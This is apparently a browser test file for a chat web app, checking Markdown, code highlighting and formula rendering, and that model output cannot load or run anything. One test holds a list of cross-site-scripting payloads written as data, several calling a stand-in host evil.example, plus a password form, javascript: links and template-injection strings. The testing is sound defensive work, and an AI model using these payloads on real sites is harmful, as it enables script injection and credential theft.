// A model's Markdown on the page: it runs nothing and loads nothing. lib/stage.js checks for every page that no request
// goes to another origin and no policy is violated.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { Chat } from '../lib/chat.js';
import { answers, ready, stage } from '../lib/stage.js';

const { alfred, provider, open, asked } = await stage();
const anna = await alfred.admin('anna');

const RICH = `## Tides

| place | height |
|:------|-------:|
| Brest | 7.9 m  |
| Nice  | 0.3 m  |

- [x] high water
- [ ] low water

\`\`\`c
int main(void) { return 0; } /* done */
\`\`\`

The force is $F = G\\frac{m_1 m_2}{r^2}$, and

$$\\int_0^1 x^2\\,dx = \\tfrac13$$

\\begin{align*}
a &= b \\\\
&= c
\\end{align*}

1. *one*
2. ~~two~~ \`three\`

> said the sea
`;

/** Checks that a page shows the parts of RICH, live or reloaded. */
async function looksRich(chat) {
    const { answer } = chat;
    await answer.locator('.hljs-keyword, .hljs-type').first().waitFor();
    await answer.locator('.katex').nth(2).waitFor();
    assert.equal(await answer.getByRole('heading', { name: 'Tides' }).count(), 1);
    assert.deepEqual(await answer.locator('th').allInnerTexts(), ['place', 'height']);
    assert.equal(await answer.locator('td').nth(1).evaluate((el) => getComputedStyle(el).textAlign), 'end');
    const boxes = answer.getByRole('checkbox');
    assert.deepEqual([await boxes.nth(0).isChecked(), await boxes.nth(1).isChecked(), await boxes.nth(0).isDisabled()], [true, false, true]);
    assert.equal(await answer.locator('pre code').textContent(), 'int main(void) { return 0; } /* done */\n');
    assert.equal(await answer.locator('.hljs-comment').innerText(), '/* done */');
    assert.equal(await answer.locator('.katex-display').count(), 2);
    assert.equal(await answer.locator('.katex-error').count(), 0);
    assert.equal(await answer.locator('math').count(), 3, 'formulas are there for screen readers');
    assert.equal(await answer.locator('del').innerText(), 'two');
    assert.equal((await answer.locator('blockquote').innerText()).trim(), 'said the sea');
}

test('tables, task lists, code with colours and formulas, live and after a reload', async (t) => {
    const page = await open(t, { as: anna });
    const chat = new Chat(page);
    await chat.exchange(provider, answers(RICH, 7), 'Everything');
    await looksRich(chat);
    await page.reload();
    await looksRich(chat);
});

test('a loaded page sets its formulas in short tasks, and a worker reads its code', async (t) => {
    const made = await open(t, { as: anna });
    const formulas = Array.from({ length: 8 }, (_, i) => `$$x_{${i}} + 1$$`).join('\n\n');
    await new Chat(made).exchange(provider, answers(`${formulas}\n\n\`\`\`js\nconst x = 1;\n\`\`\``), 'Many');
    const path = new URL(made.url()).pathname;
    const page = await open(t, { as: anna });
    // Every look at the clock takes longer than a task may. How many formulas does KaTeX render in one task?
    await page.addInitScript(() => {
        let clock = 0, katex, now = 0;
        window.perTask = [];
        Object.defineProperty(performance, 'now', { value: () => (clock += 100) });
        Object.defineProperty(window, 'katex', {
            get: () => katex && { ...katex, render: (...all) => {
                if (!now++) setTimeout(() => window.perTask.push(now) && (now = 0));
                return katex.render(...all);
            } },
            set: (v) => (katex = v),
        });
    });
    await page.goto(path);
    await page.locator('.hljs-keyword').waitFor();
    assert.equal(await page.locator('.katex-display').count(), 8);
    assert.deepEqual(await page.evaluate(() => window.perTask), Array(8).fill(1));
    assert.deepEqual(page.workers().map((w) => new URL(w.url()).pathname.split('/').pop()), ['highlight.js']);
});

test('code is coloured and formulas are rendered as soon as their block is complete', async (t) => {
    const page = await open(t, { as: anna });
    const chat = new Chat(page);
    await chat.send('Early');
    const call = await asked('Early');
    await call.text('```js\nconst x = 1;\n```\n\n$$x^2$$\n\nand more');
    await chat.answer.locator('.hljs-keyword').waitFor();
    await chat.answer.locator('.katex').waitFor();
    assert.ok(await page.locator('#page[data-running]').count(), 'it still runs');
    await call.end();
    await chat.settled();
});

test('images, frames, scripts and styles of a model load and run nothing', async (t) => {
    const page = await open(t, { as: anna });
    const chat = new Chat(page);
    const hostile = [
        '![a cat](https://evil.example/cat.png "t") ![](//evil.example/x) ![data](data:image/svg+xml,<svg/onload=alert(1)>)',
        '<img src="https://evil.example/raw.png" onerror="window.hacked=1"> <b>bold?</b>',
        '<script>window.hacked = 1; fetch("https://evil.example/")</script>',
        '<iframe src="https://evil.example/frame"></iframe><style>body { background: url(https://evil.example/bg) }</style>',
        '<svg onload="window.hacked=1"><use href="https://evil.example/#a"/></svg>',
        '<form action="https://evil.example"><input name=password autofocus></form><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '[click](javascript:window.hacked=1) [data](data:text/html,<script>1</script>) [vb](vbscript:x)',
        '$\\includegraphics{https://evil.example/math.png}$ $\\href{javascript:window.hacked=1}{x}$ $\\htmlStyle{background:url(//evil.example)}{y}$',
        '```html\n<img src=https://evil.example/code.png onerror="window.hacked=1">\n```',
        '```"><img src=x onerror=window.hacked=1>\ncode\n```',
        '[ok](https://example.org/page)',
    ].join('\n\n');
    provider.next(answers(hostile, 3), (call) => call.userText === 'Attack');
    await chat.send('Attack');
    await chat.settled();
    const harmless = async () => {
        await chat.answer.locator('.katex').first().waitFor();
        assert.equal(await page.evaluate(() => window.hacked), undefined);
        assert.equal(await chat.answer.locator('img, iframe, script, style, form, base, meta, object, embed, audio, video').count(), 0);
        assert.equal(await chat.answer.locator('[onerror], [onload], [autofocus]').count(), 0);
        const links = await chat.answer.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href')));
        for (const link of links) assert.match(link ?? 'https:', /^(https?:|\/\/evil\.example|mailto:)/, 'only addresses that run nothing');
        const ok = chat.answer.locator('a[href="https://example.org/page"]');
        assert.match(await ok.getAttribute('rel'), /noopener/);
        assert.match(await chat.answer.innerText(), /<b>bold\?<\/b>/, 'raw HTML is shown as text');
    };
    await harmless();
    await page.reload();
    await ready(page);
    await harmless();
});

test('template syntax is shown as text, in messages, answers and titles', async (t) => {
    const page = await open(t, { as: anna });
    const chat = new Chat(page);
    const text = '{{csrf}} {{{body_html}}} {{>partials/message}} {{#user}}x{{/user}} <%= 1 %>';
    await chat.exchange(provider, answers(text), text);
    assert.deepEqual(await chat.texts(), [text, text]);
    const id = page.url().match(/ses_[^/?#]+/)[0];
    await anna.request('PATCH', `/api/sessions/${id}`, { json: { title: text } });
    await page.reload();
    assert.deepEqual(await chat.texts(), [text, text]);
    assert.equal(await page.locator('#session-title').textContent(), text);
    await page.goto('/sessions');
    assert.ok((await page.locator('#session-list .item-title').allInnerTexts()).includes(text));
});

test("a user's text is shown as typed, also markup", async (t) => {
    const page = await open(t, { as: anna });
    const chat = new Chat(page);
    const text = '<script>window.hacked=1</script> **not bold** &amp; <b>';
    await chat.exchange(provider, answers('I see.'), text);
    assert.equal(await chat.question.locator('.bubble').innerText(), text);
    await page.reload();
    assert.equal(await chat.question.locator('.bubble').innerText(), text);
    assert.equal(await page.evaluate(() => window.hacked), undefined);
});
